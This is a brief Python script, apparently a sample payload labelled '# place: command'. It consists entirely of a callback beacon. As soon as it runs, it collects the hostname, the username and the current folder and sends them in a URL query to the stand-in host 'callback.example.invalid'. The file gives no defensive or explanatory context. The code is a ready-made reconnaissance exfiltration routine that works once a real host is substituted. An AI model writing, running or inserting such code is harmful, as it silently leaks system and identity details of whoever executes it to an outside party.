# place: command
import getpass
import os
import socket
import urllib.parse
import urllib.request

ADDRESS = "http://callback.example.invalid/hit"


def describe():
    return {"host": socket.gethostname(), "user": getpass.getuser(), "folder": os.getcwd()}


def main():
    query = urllib.parse.urlencode(describe())
    urllib.request.urlopen(ADDRESS + "?" + query, timeout=5)


main()
